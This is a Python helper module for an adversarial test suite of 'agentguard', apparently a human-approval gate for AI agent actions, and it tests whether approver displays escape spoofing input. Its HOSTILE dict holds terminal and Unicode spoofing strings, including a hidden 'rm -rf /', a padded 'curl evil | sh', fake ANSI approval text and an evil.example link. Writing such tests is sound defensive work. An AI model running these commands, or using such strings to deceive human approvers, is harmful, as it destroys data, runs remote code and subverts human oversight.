"""Shared pieces of the adversarial suite: the policy under attack, channels that answer on
cue, hostile strings, a reader that turns an approver's display back into arguments, and a
runner for the real ``agentguard`` CLI in a subprocess."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import unicodedata
from collections.abc import AsyncIterator, Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

import anyio

from agentguard.channels.base import ChannelAnswer
from agentguard.channels.scripted import ScriptedChannel
from agentguard.sanitize import unescape
from agentguard.types import ApprovalRequest

__all__ = [
    "HOSTILE",
    "PATIENT_POLICY",
    "POLICY",
    "Recorder",
    "Silent",
    "args_from_display",
    "args_from_rendered",
    "cli",
    "same_json",
    "unsafe_chars",
    "vote",
]

#: The policy every adversarial test attacks. ``delete`` of anything under /tmp is routine
#: (allowed), any other ``delete`` is destructive; ``restart`` of everything is privileged.
POLICY = """
defaults: {timeout: 3s, deny_cooldown: 1m}
groups: {oncall: [alice, bob], security: [carol, dave, erin]}
classes:
  read: {require: allow}
  write: {require: allow}
  destructive: {require: approve, approvers: [group:oncall], max_grant: 15m}
  privileged: {require: approve, approvers: [group:security], max_grant: 15m}
rules:
  - {id: reads, match: {tool: "get_*"}, class: read}
  - {id: delete-tmp, match: {tool: delete, args: {path: {path: "/tmp/**"}}}, class: write}
  - {id: delete, match: {tool: delete}, class: destructive}
  - {id: restart-all, match: {tool: restart, args: {service: all}}, class: privileged}
  - {id: restart, match: {tool: restart}, class: destructive}
  - {id: k8s, match: {tool: "k8s.*"}, class: destructive}
  - {id: password-reset, match: {tool: reset_password}, class: write, require: reauth,
     reauth: {method: totp}}
"""

#: The same policy with a long timeout, for tests whose approver is a CLI process started
#: while the call waits (its answer settles the call at once; the timeout only bounds a
#: slow machine).
PATIENT_POLICY = POLICY.replace("timeout: 3s", "timeout: 60s")

#: One string per spoofing technique; each must reach a human escaped.
HOSTILE: dict[str, str] = {
    "carriage-return": "safe-looking\rrm -rf / --no-preserve-root",
    "csi": "\x1b[2J\x1b[1;1H\x1b[32mAPPROVED by security\x1b[0m",
    "osc": "\x1b]0;approved\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "bidi": "report\u202egpj.exe\u202c \u2066isolate\u2069 \u200fRTL",
    "zero-width": "de\u200blete\u200c\u200d\u2060\ufeff",
    "tag-characters": "ok\U000e0001\U000e0069\U000e0067\U000e006e\U000e007f",
    "newline-split": "api\n  call hash   sha256:" + "0" * 64 + "\napprove: yes",
    "line-separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "padding": "harmless" + " " * 300 + "\t" * 20 + "&& curl evil | sh",
    "controls": "\x00\x07\x08\x7f\x9b31m",
    "quotes-and-backslashes": 'x", "service": "api\\" \\x1b \\u202e',
    "lone-surrogate": "half \ud800 pair \udfff",
    "non-latin": "ключ 鍵 مفتاح 🔑",
}


def unsafe_chars(text: str) -> set[str]:
    """Characters that could restyle, reorder, overwrite or hide text on a screen.

    The newline is ours (a display has lines); every other control, format, separator,
    surrogate, private-use or unassigned character, and every space other than U+0020, is
    unsafe when it reaches a human.
    """
    out = set()
    for ch in text:
        if ch == "\n":
            continue
        cat = unicodedata.category(ch)
        if cat in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"} or (cat == "Zs" and ch != " "):
            out.add(ch)
    return out


_STRING = re.compile(r'"([^"]*)"')


def args_from_rendered(text: str) -> Any:
    """Read arguments back from :func:`~agentguard.sanitize.render_args` output, as a human
    (or a script) reading the screen would: un-escape each shown string, keep the rest."""
    return json.loads(_STRING.sub(lambda m: json.dumps(unescape(m.group(1))), text))


def args_from_display(display: str) -> Any:
    """The arguments shown in a full approver display (console prompt, ``approvals show``).

    Raises:
        AssertionError: the display says the arguments were truncated.
    """
    lines = display.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith("  arguments"))
    assert lines[start] == "  arguments", f"display truncated: {lines[start]!r}"
    body: list[str] = []
    for line in lines[start + 1:]:
        if not line.startswith("    "):
            break
        body.append(line[4:])
    return args_from_rendered("\n".join(body))


def same_json(a: Any, b: Any) -> bool:
    """Equal as JSON, types included (``True`` is not ``1``; ``1`` is not ``1.0``)."""
    def dump(v: Any) -> str:
        return json.dumps(v, sort_keys=True, ensure_ascii=True)

    return dump(a) == dump(b)


def vote(who: str, approve: bool = True, **kw: Any) -> ChannelAnswer:
    """A scripted vote."""
    return ScriptedChannel.vote(who, approve, **kw)


class Recorder(ScriptedChannel):
    """A scripted channel that records every request it was asked about, and optionally
    runs a hook in ``settled`` (between the request settling and the guard consuming it)."""

    def __init__(
        self,
        script: Callable[[ApprovalRequest], Iterable[ChannelAnswer]] | Iterable[ChannelAnswer],
        *, on_settled: Callable[[ApprovalRequest], Any] | None = None, name: str = "scripted",
    ) -> None:
        super().__init__(script, name=name)
        self.asked: list[ApprovalRequest] = []
        self.on_settled = on_settled

    async def ask(self, request: ApprovalRequest) -> AsyncIterator[ChannelAnswer]:
        self.asked.append(request)
        async for answer in super().ask(request):
            yield answer

    async def settled(self, request: ApprovalRequest) -> None:
        await super().settled(request)
        if self.on_settled is not None:
            result = self.on_settled(request)
            if hasattr(result, "__await__"):
                await result


class Silent:
    """A channel whose humans never answer here (answers arrive through the store, e.g. from
    ``agentguard approvals`` in another process, or never)."""

    name = "terminal"
    verified = True

    async def ask(self, request: ApprovalRequest) -> AsyncIterator[ChannelAnswer]:
        await anyio.sleep_forever()
        yield ChannelAnswer(kind="closed", channel=self.name)  # pragma: no cover

    async def settled(self, request: ApprovalRequest) -> None:
        return None


def cli(*args: str | bytes, home: Path, env: Mapping[str, str] | None = None,
        timeout: float = 60) -> subprocess.CompletedProcess[bytes]:
    """Run ``python -m agentguard.cli ARGS`` and return raw bytes (to inspect exactly what a
    terminal would receive)."""
    environ = dict(os.environ, AGENTGUARD_HOME=str(home), **(env or {}))
    return subprocess.run([sys.executable, "-m", "agentguard.cli", *args], env=environ,
                          capture_output=True, timeout=timeout)
